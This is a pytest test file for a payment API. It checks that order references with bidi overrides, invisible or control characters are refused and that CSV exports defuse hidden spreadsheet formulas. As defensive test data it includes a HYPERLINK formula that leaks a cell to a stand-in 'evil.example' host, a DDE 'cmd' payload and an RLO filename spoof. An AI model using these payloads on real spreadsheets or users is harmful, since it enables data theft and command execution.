"""Issue 16 part 6: bidi overrides and control characters in `order_reference`, and spreadsheet formulas
hidden behind leading whitespace or zero-width characters in the CSV export.

The attacks come first: a reference that displays as something else (U+202E), that hides characters
(U+200B), or that breaks a line or a cell (tab, CR, LF, U+2028) is sent through the API and straight to the
service; each is refused with a 400 naming `order_reference`, by both of the API's parsers, and nothing is
created. Then references that reach the merchant's CSV export (accepted ones such as "  =HYPERLINK(...)",
and rows stored before the rule, such as "\\u200b=1+1" and "\\t=cmd") must open in a spreadsheet as text.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from stablepay.api.serializers import PaymentRequestCreateIn, create_body
from stablepay.errors import InvalidInput
from stablepay.ledger import services
from stablepay.models import Merchant, PaymentRequest
from stablepay.text_rules import formula_like, reference_problem, spreadsheet_cell
from tests.support.auth import login_as
from tests.support.local_chain import LocalChain
from tests.support.ops import due, make_user

pytestmark = pytest.mark.django_db

URL = "/api/v1/payment-requests/"
BODY: dict[str, Any] = {
    "order_reference": "REF-1",
    "amount": "10.00",
    "currency": "HKD",
    "chain_id": 31337,
    "token": "HKDX",
}

REFUSED = {
    "RLO": "INV-1\u202egpj.exe",  # shows as INV-1exe.jpg
    "LRO": "A\u202dB",
    "LRE": "A\u202aB",
    "RLE": "A\u202bB",
    "PDF": "A\u202cB",
    "LRI": "A\u2066B",
    "RLI": "A\u2067B",
    "FSI": "A\u2068B",
    "PDI": "A\u2069B",
    "LRM": "A\u200eB",
    "RLM": "A\u200fB",
    "ALM": "A\u061cB",
    "ZWSP": "INV\u200b-1",  # looks like INV-1
    "ZWNJ": "A\u200cB",
    "ZWJ": "A\u200dB",
    "word joiner": "A\u2060B",
    "BOM": "\ufeffINV-1",
    "soft hyphen": "IN\u00adV-1",
    "tag": "A\U000e0041B",
    "tab": "\t=cmd",
    "CR": "A\rB",
    "LF": "A\nB",
    "ESC": "A\x1b[31mB",
    "BEL": "A\x07",
    "DEL": "A\x7f",
    "C1 CSI": "A\x9bB",
    "NEL": "A\x85B",
    "line separator": "A\u2028B",
    "paragraph separator": "A\u2029B",
}
ACCEPTED = ["ORD-2024-0001", '  =HYPERLINK("http://evil.example","x")', "訂單 #123", "Café ☕ 🎉", "a b", "x" * 64]


@pytest.mark.parametrize("reference", list(REFUSED.values()), ids=list(REFUSED))
def test_the_api_refuses_invisible_and_control_characters(api: APIClient, reference: str) -> None:
    body = {**BODY, "order_reference": reference}
    assert create_body(body) is None, "the lean parser accepted it"
    serializer = PaymentRequestCreateIn(data=body)
    assert not serializer.is_valid() and "order_reference" in serializer.errors, serializer.errors
    response = api.generic("POST", URL, json.dumps(body), content_type="application/json")
    assert response.status_code == 400, response.content
    message = response.json()["order_reference"][0]
    assert f"U+{ord(next(c for c in reference if reference_problem(c))):04X}" in message, message
    assert PaymentRequest.objects.count() == 0


@pytest.mark.parametrize("reference", list(REFUSED.values()), ids=list(REFUSED))
def test_the_service_refuses_them_too(merchant: Merchant, reference: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        services.payment_request_create(
            merchant=merchant,
            order_reference=reference,
            amount=Decimal("10.00"),
            currency="HKD",
            chain_id=31337,
            token_symbol="HKDX",
        )
    assert refused.value.field == "order_reference" and refused.value.status_code == 400
    assert PaymentRequest.objects.count() == 0


@pytest.mark.parametrize("reference", ACCEPTED)
def test_ordinary_references_still_work(api: APIClient, reference: str) -> None:
    body = {**BODY, "order_reference": reference}
    assert create_body(body) is not None
    created = api.post(URL, body, format="json")
    assert created.status_code == 201, created.content
    assert created.json()["order_reference"] == reference


# the CSV export ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "formula"),
    [
        ("=1+1", True),
        ('  =HYPERLINK("http://evil.example","x")', True),
        ("\u00a0=1+1", True),  # no-break space
        ("\u3000@SUM(A1)", True),  # ideographic space
        ("\u200b=1+1", True),  # zero-width space
        ("\ufeff-1+1", True),  # BOM
        ("\u202e+1", True),  # a bidi override first
        ("\u200b \u200d\u2060=1", True),
        ("\t=cmd", True),
        ("\tplain", True),  # a leading tab is neutralised whatever follows (OWASP)
        ("\rplain", True),
        ("\n=1", True),
        ("\uff1d1+1", True),  # full-width equals sign
        ("plain", False),
        ("a=1", False),
        ("  plain", False),
        ("", False),
        ("\u200b", False),
        ("'=1", False),  # already text
    ],
)
def test_spreadsheet_cell(value: str, formula: bool) -> None:
    assert formula_like(value) is formula
    assert spreadsheet_cell(value) == ("'" + value if formula else value)


def _paid(local_chain: LocalChain, merchant: Merchant, reference: str, *, legacy: bool = False) -> PaymentRequest:
    """A paid request with this reference: through the API, or (legacy) as a row stored before the rule."""
    if legacy:
        pr, _ = services.payment_request_create(
            merchant=merchant,
            order_reference="LEGACY",
            amount=Decimal("10.00"),
            currency="HKD",
            chain_id=31337,
            token_symbol="HKDX",
        )
        PaymentRequest.objects.filter(pk=pr.pk).update(order_reference=reference)
    else:
        client = APIClient()
        client.credentials(HTTP_AUTHORIZATION=f"Bearer {local_chain.api_keys['acme']}")
        created = client.post(URL, {**BODY, "order_reference": reference}, format="json")
        assert created.status_code == 201, created.content
        pr = PaymentRequest.objects.get(pk=created.json()["id"])
    local_chain.pay(pr.pay_to, due(pr))
    return pr


def test_the_csv_export_disarms_formulas_behind_spaces_and_invisible_characters(
    local_chain: LocalChain, merchant: Merchant
) -> None:
    accepted = [
        '  =HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "\u00a0=1+1",
        "\u3000@SUM(A1)",
        " +1",
        " -2+3",
        "plain",
    ]
    legacy = ["\u200b=1+1", "\t=cmd|' /C calc'!A0", "\r=1", "\ufeff-1+1", "\u202e@SUM(A1)", "\u200d\u200b =2"]
    for reference in accepted:
        _paid(local_chain, merchant, reference)
    for reference in legacy:
        _paid(local_chain, merchant, reference, legacy=True)
    local_chain.settle()
    assert PaymentRequest.objects.filter(status="paid").count() == len(accepted) + len(legacy)

    client = Client()
    login_as(client, make_user("mia", merchant=merchant))
    today = timezone.localdate()
    response = client.get(
        "/merchant/settlements.csv",
        {"date_from": (today - timedelta(days=1)).isoformat(), "date_to": (today + timedelta(days=1)).isoformat()},
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    cells = {row["order_reference"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    expected = {"'" + r for r in accepted + legacy if r != "plain"} | {"plain"}
    assert cells == expected, cells ^ expected
